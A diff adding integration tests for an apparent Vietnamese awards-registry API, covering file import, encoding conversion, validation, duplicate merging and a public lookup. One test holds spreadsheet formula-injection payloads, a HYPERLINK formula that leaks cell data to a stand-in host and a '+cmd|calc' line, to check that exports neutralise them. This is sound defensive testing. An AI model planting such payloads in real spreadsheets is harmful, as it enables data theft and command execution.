@@ -1,0 +1,214 @@
+import fs from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readXlsxRows, writeXlsx } from '@thidua/documents';
+import { createTestApp, loggedIn, type Client, type TestApp } from './harness.js';
+import { HEADER, importCsv, upload, waitImport, tmpDataDir } from './registry.helpers.js';
+
+let t: TestApp;
+let c: Client;
+const dataDir = tmpDataDir();
+
+beforeAll(async () => {
+  t = await createTestApp({ env: { DATA_DIR: dataDir } });
+  c = await loggedIn(t.app, 'chuyenvien');
+});
+afterAll(async () => {
+  await t?.close();
+  fs.rmSync(dataDir, { recursive: true, force: true });
+});
+
+const row = (name: string, extra: Partial<Record<string, string>> = {}) =>
+  [name, extra.birth ?? '1975', extra.gender ?? 'Nam', extra.home ?? 'Tiên Lữ, Hưng Yên', extra.org ?? 'Hưng Yên', extra.award ?? 'bang_khen_tinh', extra.type ?? '', extra.year ?? '2020', extra.dn ?? '15/QĐ-UBND', extra.dd ?? '15/01/2021', extra.auth ?? 'UBND tỉnh Hưng Yên', extra.cccd ?? '']
+    .map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v))
+    .join(',');
+
+describe('registry import', () => {
+  it('serves the template with Vietnamese headers, and reads it back', async () => {
+    const r = await c.get('/api/v1/registry/imports/template.xlsx');
+    expect(r.statusCode).toBe(200);
+    expect(r.rawPayload.subarray(0, 4).toString('latin1')).toBe('PK\x03\x04');
+    const f = `${dataDir}/tpl.xlsx`;
+    fs.writeFileSync(f, r.rawPayload);
+    const rows = [];
+    for await (const x of readXlsxRows(f, { sheet: 2 })) rows.push(x);
+    expect(Object.keys(rows[0]!.values)).toEqual(['Cột', 'Nội dung']);
+  });
+
+  it('accepts header variants, date forms, a semicolon delimiter, a BOM and UTF-16', async () => {
+    const header = 'HỌ TÊN;năm sinh;Giới tính;Quê quán;Đơn vị;Hình thức;Loại hình;Năm khen;Số QĐ;Ngày QĐ;Cơ quan ban hành;CMND/CCCD';
+    const lines = [
+      'Vũ Thị Mận;12/05/1980;Nữ;Hưng Yên;Hưng Yên;Bằng khen của Chủ tịch UBND tỉnh;;2019;1/QĐ-UBND;2020-01-10;UBND tỉnh;',
+      'Vũ Thị Đào;1981;Nữ;Hưng Yên;Hưng Yên;Bằng khen của bộ, ban, ngành, tỉnh;Đột xuất;2019;2/QĐ-UBND;43845;UBND tỉnh;',
+      'Vũ Văn Lê;1982;Nam;Hưng Yên;Hưng Yên;lao_dong_tien_tien;cong_trang;2019;3/QĐ-UBND;5/1/2020;UBND tỉnh;',
+    ];
+    const v = await importCsv(c, '\uFEFF' + [header, ...lines].join('\n'));
+    expect(v.status, JSON.stringify(v)).toBe('committed');
+    expect(v.counts).toMatchObject({ rows: 3, valid: 3, invalid: 0, created: 3 });
+    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('vu thi dao')}`);
+    expect(s.json().items[0]).toMatchObject({ award: 'bang_khen_tinh', type: 'dot_xuat', decision: { date: '2020-01-15' } });
+    const m = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Vũ Thị Mận')}`);
+    expect(m.json().items[0]).toMatchObject({ decision: { date: '2020-01-10' }, person: { birthYear: 1980 } });
+
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([HEADER, row('Hà Văn Mười Sáu', { dn: '16/QĐ' })].join('\r\n'), 'utf16le')]);
+    const u = await importCsv(c, utf16);
+    expect(u.counts).toMatchObject({ valid: 1, created: 1 });
+    const tab = [HEADER.replaceAll(',', '\t'), row('Hà Văn Tab', { dn: '17/QĐ', home: 'Hưng Yên' }).replaceAll(',', '\t')].join('\n');
+    expect((await importCsv(c, tab)).counts).toMatchObject({ valid: 1, created: 1 });
+  });
+
+  it('reports bad rows with spreadsheet row number, header text and code; commits only the valid rows', async () => {
+    const csv = [
+      HEADER,
+      row('Đỗ Văn Tốt'),
+      row('', {}), // row 3: no name
+      row('Đỗ Văn Ngày', { dd: '31/02/2021' }), // row 4
+      row('Đỗ Văn Năm', { year: '2019', birth: '2030' }), // row 5
+      row('Đỗ Văn Khen', { award: 'Huân chương Mặt Trăng' }), // row 6
+      row('Đỗ Văn Căn', { cccd: '0790851234567' }), // row 7: 13 digits
+      row('Đỗ Văn Tỉnh', { cccd: '099075001234' }), // row 8: bad place code
+      row('Đỗ Văn Cước', { cccd: '033075001234', birth: '1975', gender: 'Nam' }), // ok
+      row('Đỗ Thị Lệch', { cccd: '033075001235', birth: '1976', gender: 'Nữ' }), // warnings
+      row('Đỗ Văn Cũ', { cccd: '123456789' }), // CMND legacy
+      row('Đỗ Văn Trước', { birth: '1990', year: '1985' }), // row 12
+    ].join('\r\n');
+    const v = await importCsv(c, csv, false);
+    expect(v.status).toBe('previewed');
+    expect(v.counts).toMatchObject({ rows: 11, valid: 4, invalid: 7, created: 0 });
+    const at = (row: number) => v.errors.filter((e) => e.row === row).map((e) => `${e.column}:${e.code}`);
+    expect(at(3)).toEqual(['Họ và tên:required']);
+    expect(at(4)).toEqual(['Ngày quyết định:invalid_date']);
+    expect(at(5)).toContain('Năm sinh:invalid_year');
+    expect(at(6)).toEqual(['Hình thức khen thưởng:unknown_award']);
+    expect(at(7)).toEqual(['Số CCCD:citizen_id_format']);
+    expect(at(8)).toEqual(['Số CCCD:citizen_id_province']);
+    expect(at(12)).toEqual(['Năm thành tích:year_before_birth']);
+    expect(v.warnings.filter((w) => w.row === 10).map((w) => w.code)).toEqual(['citizen_id_mismatch', 'citizen_id_mismatch']);
+    expect(v.warnings.filter((w) => w.row === 11).map((w) => w.code)).toEqual(['citizen_id_legacy']);
+    const commit = await c.post(`/api/v1/registry/imports/${v.id}/commit`);
+    expect(commit.statusCode, commit.body).toBe(202);
+    const done = await waitImport(c, v.id, ['committed', 'failed']);
+    expect(done.counts).toMatchObject({ created: 4, existing: 0 });
+    expect((await c.post(`/api/v1/registry/imports/${v.id}/commit`)).statusCode).toBe(409);
+  });
+
+  it('converts TCVN3 and VNI cells and reports each with its original text', async () => {
+    const csv = [HEADER, row('Khæng V¨n H¶i', { home: 'Kinh M«n, H¶i D­¬ng', dn: '30/QĐ' }), row('Khoång Thò Luïa', { dn: '31/QĐ' })].join('\n');
+    const v = await importCsv(c, csv);
+    expect(v.counts).toMatchObject({ valid: 2, created: 2 });
+    const w = v.warnings.filter((x) => x.code === 'legacy_encoding_converted');
+    expect(w.map((x) => x.original)).toEqual(expect.arrayContaining(['Khæng V¨n H¶i', 'Kinh M«n, H¶i D­¬ng', 'Khoång Thò Luïa']));
+    expect(w.find((x) => x.original === 'Khæng V¨n H¶i')!.column).toBe('Họ và tên');
+    const r = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Khổng Thị Lụa')}`);
+    expect(r.json().items[0].person.fullName).toBe('Khổng Thị Lụa');
+  });
+
+  it('stores formula-like cells as text and exports them neutralised (CSV and XLSX)', async () => {
+    const evil = '=HYPERLINK("http://x/?"&A1,"Bấm")';
+    const csv = [HEADER, row('Phan Văn Công Thức', { home: evil, auth: '@SUM(1)', dn: '+cmd|calc' })].join('\n');
+    const v = await importCsv(c, csv);
+    expect(v.counts.created).toBe(1);
+    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('phan van cong thuc')}`);
+    expect(s.json().items[0].person.hometown).toBe(evil);
+    const e = await c.get(`/api/v1/registry/export.csv?q=${encodeURIComponent('phan van cong thuc')}`);
+    expect(e.statusCode).toBe(200);
+    expect(e.body).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Bấm"")"`);
+    expect(e.body).toContain(`'@SUM(1)`);
+    expect(e.body).toContain(`'+cmd|calc`);
+    expect(e.body).not.toMatch(/,=HYPERLINK/);
+    const x = await c.get(`/api/v1/registry/export.xlsx?q=${encodeURIComponent('phan van cong thuc')}`);
+    expect(x.statusCode).toBe(200);
+    const f = `${dataDir}/exp.xlsx`;
+    fs.writeFileSync(f, x.rawPayload);
+    const rows = [];
+    for await (const r of readXlsxRows(f)) rows.push(r);
+    expect(rows[0]!.values['Quê quán']).toBe(`'${evil}`);
+  });
+
+  it('re-importing the same file creates nothing new; an xlsx file works the same', async () => {
+    const csv = [HEADER, row('Lương Văn Lặp', { dn: '40/QĐ' }), row('Lương Thị Lặp', { dn: '41/QĐ', gender: 'Nữ' }), row('Lương Văn Lặp', { dn: '42/QĐ' })].join('\n');
+    const a = await importCsv(c, csv);
+    expect(a.counts).toMatchObject({ valid: 3, created: 3, existing: 0 });
+    const b = await importCsv(c, csv);
+    expect(b.counts).toMatchObject({ valid: 3, created: 0, existing: 3 });
+    const cols = HEADER.split(',').map((h, i) => ({ header: h, key: `c${i}`, type: 'text' as const }));
+    const xlsx = await writeXlsx([{ name: 'S', columns: cols, rows: [Object.fromEntries(row('Lương Văn Lặp', { dn: '40/QĐ' }).split(',').map((v, i) => [`c${i}`, v]))] }]);
+    const x = await importCsv(c, xlsx, true, 'a.xlsx');
+    expect(x.counts).toMatchObject({ valid: 1, created: 0, existing: 1 });
+    // The same person by name + birth year: one person with two entries.
+    const s = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('Lương Văn Lặp')}`);
+    const ids = new Set(s.json().items.map((i: { person: { id: string } }) => i.person.id));
+    expect(ids.size).toBe(1);
+  });
+
+  it('refuses wrong types (415) and too-large files (413); needs a session', async () => {
+    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]);
+    expect((await upload(c, 'x.csv', png)).statusCode).toBe(415);
+    expect((await upload(c, 'x.csv', Buffer.from([0xc3, 0x28, 0x41, 0x42]))).statusCode).toBe(415);
+    const big = Buffer.alloc(101 * 1024 * 1024, 0x41);
+    const r = await upload(c, 'big.csv', big);
+    expect(r.statusCode).toBe(413);
+    expect(r.json().code).toBe('payload_too_large');
+    const anon = await t.app.inject({ method: 'GET', url: '/api/v1/registry/search?q=a' });
+    expect(anon.statusCode).toBe(401);
+  });
+});
+
+describe('duplicates and the public lookup', () => {
+  it('finds candidate pairs, merges with undo, remembers "not the same person"', async () => {
+    const csv = [
+      HEADER,
+      row('Tô Văn Trùng', { dn: '50/QĐ', birth: '1960', home: 'Kim Động, Hưng Yên', cccd: '' }),
+      row('To Van Trung', { dn: '51/QĐ', birth: '1960', home: 'Kim Động, Hưng Yên' }),
+      row('Tô Thị Khác', { dn: '52/QĐ', birth: '1961', cccd: '033161001111', gender: 'Nữ' }),
+      row('Tô Thị Khác Tên', { dn: '53/QĐ', birth: '1961', cccd: '033161001111', gender: 'Nữ' }),
+    ].join('\n');
+    await importCsv(c, csv);
+    // The scan job runs after the commit.
+    let items: { id: string; score: number; reasons: string[]; people: { id: string; fullName: string; entries: number }[] }[] = [];
+    for (let i = 0; i < 100 && items.length < 1; i++) {
+      items = (await c.get('/api/v1/registry/duplicates')).json().items.filter((d: { people: { fullName: string }[] }) => d.people.some((p) => p.fullName.startsWith('T')));
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    const close = items.find((d) => d.people.some((p) => p.fullName === 'To Van Trung'))!;
+    expect(close.reasons).toEqual(expect.arrayContaining(['close_name_variant', 'same_birth_year', 'same_hometown']));
+    const keep = close.people.find((p) => p.fullName === 'Tô Văn Trùng')!;
+    const m = await c.post(`/api/v1/registry/duplicates/${close.id}/merge`, { keepPersonId: keep.id });
+    expect(m.statusCode, m.body).toBe(201);
+    expect(m.json().movedEntryIds.length).toBe(1);
+    const after = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('to van trung')}`);
+    expect(new Set(after.json().items.map((i: { person: { id: string } }) => i.person.id))).toEqual(new Set([keep.id]));
+    const undo = await c.post(`/api/v1/registry/merges/${m.json().id}/undo`);
+    expect(undo.statusCode, undo.body).toBe(200);
+    const back = await c.get(`/api/v1/registry/search?q=${encodeURIComponent('to van trung')}`);
+    expect(new Set(back.json().items.map((i: { person: { id: string } }) => i.person.id)).size).toBe(2);
+    const nd = await c.post(`/api/v1/registry/duplicates/${close.id}/not-duplicate`);
+    expect(nd.statusCode, nd.body).toBe(200);
+    await c.post('/api/v1/registry/duplicates/scan');
+    await new Promise((r) => setTimeout(r, 1500));
+    const open = (await c.get('/api/v1/registry/duplicates')).json().items.map((d: { id: string }) => d.id);
+    expect(open).not.toContain(close.id);
+    const remembered = (await c.get('/api/v1/registry/duplicates?status=not_duplicate')).json().items.map((d: { id: string }) => d.id);
+    expect(remembered).toContain(close.id);
+  });
+
+  it('public lookup: no session, only valid entries, no ID number or birth date, rate-limited', async () => {
+    const pub = (body: unknown, ip = '10.0.0.9') => t.app.inject({ method: 'POST', url: '/api/v1/public/registry/lookup', payload: body as object, remoteAddress: ip });
+    const r = await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1975 });
+    expect(r.statusCode, r.body).toBe(200);
+    expect(r.json().items).toHaveLength(1);
+    expect(r.json().items[0]).toMatchObject({ fullName: 'Đỗ Văn Cước', birthYear: 1975, award: 'bang_khen_tinh', year: 2020 });
+    expect(r.body).not.toMatch(/033075001234|citizen|birthDate/);
+    expect((await pub({ fullName: 'do van cuoc', birthYear: 1975, province: 'Hưng Yên' })).json().items).toHaveLength(1);
+    expect((await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1976 })).json().items).toHaveLength(0);
+    expect((await pub({ fullName: 'Đỗ Văn', birthYear: 1975 })).json().items).toHaveLength(0);
+    expect((await pub({ fullName: 'Đỗ Văn Cước', birthYear: 1975, cccd: '1' })).statusCode).toBe(400);
+    let last = 0;
+    for (let i = 0; i < 30; i++) last = (await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77')).statusCode;
+    expect(last).toBe(200);
+    const limited = await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77');
+    expect(limited.statusCode).toBe(429);
+    expect(limited.json().code).toBe('too_many_attempts');
+    t.clock.advance(61_000);
+    expect((await pub({ fullName: 'Ai Đó Không', birthYear: 1975 }, '10.0.0.77')).statusCode).toBe(200);
+  });
+});
